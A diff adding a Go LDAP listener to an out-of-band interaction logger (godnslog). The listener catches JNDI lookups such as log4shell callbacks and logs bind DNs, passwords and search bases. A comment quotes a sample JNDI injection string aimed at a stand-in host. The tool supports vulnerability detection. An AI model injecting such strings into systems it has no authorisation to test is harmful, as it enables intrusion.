@@ -0,0 +1,264 @@
+package server
+
+import (
+	"bufio"
+	"errors"
+	"io"
+	"net"
+	"time"
+
+	"github.com/chennqqi/godnslog/cache"
+)
+
+/*
+LDAP catcher for JNDI lookup, eg. log4shell
+	${jndi:ldap://token.userXXXX.example.com/token.userXXXX}
+bind and search requests are logged, search always return no entry
+*/
+
+const (
+	MAX_LDAP_PACKET = 64 * 1024
+
+	ldapBindRequest     = 0x60
+	ldapBindResponse    = 0x61
+	ldapUnbindRequest   = 0x42
+	ldapSearchRequest   = 0x63
+	ldapSearchDone      = 0x65
+	ldapExtendedRequest = 0x77
+	ldapExtendedResp    = 0x78
+
+	ldapSuccess       = 0
+	ldapProtocolError = 2
+)
+
+var errBadBer = errors.New("bad ber packet")
+
+type LdapServerConfig struct {
+	Listen  []string //eg. :389
+	Timeout time.Duration
+}
+
+type LdapServer struct {
+	LdapServerConfig
+	tcpServer
+}
+
+func NewLdapServer(cfg *LdapServerConfig, store *cache.Cache) (*LdapServer, error) {
+	s := &LdapServer{
+		LdapServerConfig: *cfg,
+	}
+	s.name = "ldap"
+	s.store = store
+	return s, nil
+}
+
+func (s *LdapServer) Run() {
+	s.run(s.Listen, s.handle)
+}
+
+func (s *LdapServer) Shutdown() {
+	s.shutdown()
+}
+
+func (s *LdapServer) handle(conn net.Conn) {
+	ip, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
+	r := bufio.NewReader(conn)
+
+	for {
+		conn.SetReadDeadline(time.Now().Add(s.Timeout))
+		packet, err := berReadPacket(r, MAX_LDAP_PACKET)
+		if err != nil {
+			return
+		}
+		id, op, content, err := ldapParseMessage(packet)
+		if err != nil {
+			return
+		}
+
+		var resp []byte
+		switch op {
+		case ldapBindRequest:
+			name, password, err := ldapParseBind(content)
+			if err != nil {
+				return
+			}
+			if name != "" || password != "" {
+				s.logRequest(ip, "bind", name, password)
+			}
+			resp = ldapResult(id, ldapBindResponse, ldapSuccess)
+		case ldapSearchRequest:
+			_, base, _, err := berParse(content)
+			if err != nil {
+				return
+			}
+			s.logRequest(ip, "search", string(base), "")
+			resp = ldapResult(id, ldapSearchDone, ldapSuccess)
+		case ldapExtendedRequest:
+			//StartTLS is not supported
+			resp = ldapResult(id, ldapExtendedResp, ldapProtocolError)
+		case ldapUnbindRequest:
+			return
+		default:
+			continue
+		}
+
+		conn.SetWriteDeadline(time.Now().Add(s.Timeout))
+		if _, err = conn.Write(resp); err != nil {
+			return
+		}
+	}
+}
+
+func (s *LdapServer) logRequest(ip, op, dn, password string) {
+	variable, user := s.lookupToken(dn)
+	rcd := &LdapRecord{
+		Var:      variable,
+		Ip:       ip,
+		Op:       op,
+		Dn:       dn,
+		Password: password,
+		Ctime:    time.Now(),
+	}
+	if user != nil {
+		rcd.Uid = user.Id
+		rcd.Callback = user.Callback
+	}
+	s.log(rcd)
+}
+
+// berReadPacket read a whole ber element
+func berReadPacket(r *bufio.Reader, max int) ([]byte, error) {
+	head, err := r.Peek(2)
+	if err != nil {
+		return nil, err
+	}
+	n, hlen := int(head[1]), 2
+	if n&0x80 != 0 {
+		k := n & 0x7f
+		if k == 0 || k > 4 {
+			return nil, errBadBer
+		}
+		head, err = r.Peek(2 + k)
+		if err != nil {
+			return nil, err
+		}
+		n = 0
+		for _, b := range head[2:] {
+			n = n<<8 | int(b)
+		}
+		hlen += k
+	}
+	if n < 0 || hlen+n > max {
+		return nil, errBadBer
+	}
+	packet := make([]byte, hlen+n)
+	_, err = io.ReadFull(r, packet)
+	return packet, err
+}
+
+// berParse parse first ber element of b
+func berParse(b []byte) (tag byte, content, rest []byte, err error) {
+	if len(b) < 2 {
+		return 0, nil, nil, errBadBer
+	}
+	tag = b[0]
+	n, hlen := int(b[1]), 2
+	if n&0x80 != 0 {
+		k := n & 0x7f
+		if k == 0 || k > 4 || len(b) < 2+k {
+			return 0, nil, nil, errBadBer
+		}
+		n = 0
+		for _, c := range b[2 : 2+k] {
+			n = n<<8 | int(c)
+		}
+		hlen += k
+	}
+	if n < 0 || len(b) < hlen+n {
+		return 0, nil, nil, errBadBer
+	}
+	return tag, b[hlen : hlen+n], b[hlen+n:], nil
+}
+
+func berInt(b []byte) int {
+	var v int
+	for _, c := range b {
+		v = v<<8 | int(c)
+	}
+	return v
+}
+
+func berTLV(tag byte, content []byte) []byte {
+	n := len(content)
+	var b []byte
+	switch {
+	case n < 0x80:
+		b = []byte{tag, byte(n)}
+	case n < 0x100:
+		b = []byte{tag, 0x81, byte(n)}
+	case n < 0x10000:
+		b = []byte{tag, 0x82, byte(n >> 8), byte(n)}
+	default:
+		b = []byte{tag, 0x84, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
+	}
+	return append(b, content...)
+}
+
+func berEncodeInt(tag byte, v int) []byte {
+	b := []byte{byte(v)}
+	for v >>= 8; v > 0; v >>= 8 {
+		b = append([]byte{byte(v)}, b...)
+	}
+	if b[0]&0x80 != 0 {
+		b = append([]byte{0}, b...)
+	}
+	return berTLV(tag, b)
+}
+
+// ldapParseMessage parse LDAPMessage ::= SEQUENCE { messageID, protocolOp, controls }
+func ldapParseMessage(packet []byte) (id int, op byte, content []byte, err error) {
+	tag, msg, _, err := berParse(packet)
+	if err != nil || tag != 0x30 {
+		return 0, 0, nil, errBadBer
+	}
+	tag, idb, msg, err := berParse(msg)
+	if err != nil || tag != 0x02 {
+		return 0, 0, nil, errBadBer
+	}
+	op, content, _, err = berParse(msg)
+	if err != nil {
+		return 0, 0, nil, err
+	}
+	return berInt(idb), op, content, nil
+}
+
+// ldapParseBind parse BindRequest ::= { version, name, authentication }
+func ldapParseBind(content []byte) (name, password string, err error) {
+	_, _, rest, err := berParse(content)
+	if err != nil {
+		return
+	}
+	_, nb, rest, err := berParse(rest)
+	if err != nil {
+		return
+	}
+	tag, auth, _, err := berParse(rest)
+	if err != nil {
+		return
+	}
+	if tag == 0x80 { //simple
+		password = string(auth)
+	}
+	return string(nb), password, nil
+}
+
+func ldapResult(id int, op byte, code int) []byte {
+	var result []byte
+	result = append(result, berEncodeInt(0x0a, code)...)
+	result = append(result, berTLV(0x04, nil)...) //matchedDN
+	result = append(result, berTLV(0x04, nil)...) //diagnosticMessage
+
+	msg := berEncodeInt(0x02, id)
+	msg = append(msg, berTLV(op, result)...)
+	return berTLV(0x30, msg)
+}